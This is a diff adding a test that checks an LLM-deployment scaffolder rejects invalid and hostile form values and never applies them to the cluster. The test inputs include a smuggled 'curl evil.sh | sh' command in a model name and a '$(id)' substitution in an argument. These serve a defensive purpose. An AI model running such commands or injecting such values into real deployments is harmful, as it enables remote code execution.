@@ -193,6 +193,72 @@ describe('"Deploy an LLM" through /api/scaffolder/v2 against the development clu
     }
   });
 
+  it('refuses hostile form values with field errors and never applies', async () => {
+    const backend = await startBackend(proxy.url);
+    try {
+      const { server } = backend;
+      // The scaffolder checks the values against the form before a task exists.
+      for (const bad of [
+        { worker: { replicas: '3' } },
+        { worker: { replicas: 100000 } },
+        { model: 'Qwen/Qwen3-8B; curl evil.sh | sh' },
+        {
+          worker: { replicas: 1, extraArgs: ['--served-model-name', '$(id)'] },
+        },
+        { name: 'Evil_Name' },
+      ]) {
+        const res = await request(server)
+          .post('/api/scaffolder/v2/tasks')
+          .send({
+            templateRef: 'template:default/fusioninfer-deploy-llm',
+            values: { ...monolithic('hostile'), ...bad },
+          });
+        expect(res.status).toBe(400);
+      }
+      // Values the form lets through but the builder does not: the render step fails naming every field.
+      const mixed = await taskResult(
+        server,
+        await runTemplate(server, 'fusioninfer-deploy-llm', {
+          ...monolithic('h'.repeat(40)),
+          routing: 'pd-disaggregation',
+          hostnames: ['a.example.com'],
+          gateway: {},
+        }),
+      );
+      expect(mixed.status).toBe('failed');
+      expect(mixed.error).toBe(
+        [
+          'The deployment parameters are not valid:',
+          '  parameters.routing: pd-disaggregation needs a P/D topology (pd or pd-multi-node)',
+          '  parameters.gateway.name: required when host names are given',
+        ].join('\n'),
+      );
+      // A name that passes the form but makes a child name too long for Kubernetes.
+      const result = await taskResult(
+        server,
+        await runTemplate(
+          server,
+          'fusioninfer-deploy-llm',
+          monolithic('h'.repeat(40)),
+        ),
+      );
+      expect(result.status).toBe('failed');
+      expect(result.error).toMatch(
+        /^The deployment parameters are not valid:\n {2}parameters\.name: the LeaderWorkerSet name "h{40}-inference-0" \(52 characters\) would be longer than 50/,
+      );
+      expect(result.log.filter(l => l.startsWith('apply:'))).toEqual([
+        'apply: Skipping step apply because a previous step failed',
+      ]);
+      expect(
+        proxy.calls.filter(
+          c => c.method === 'PATCH' && c.path.includes('/inferenceservices/h'),
+        ),
+      ).toEqual([]);
+    } finally {
+      await backend.stop();
+    }
+  });
+
   it('holds a P/D deployment above the GPU threshold until a second person approves it, then applies it once', async () => {
     const backend = await startBackend(proxy.url);
     try {
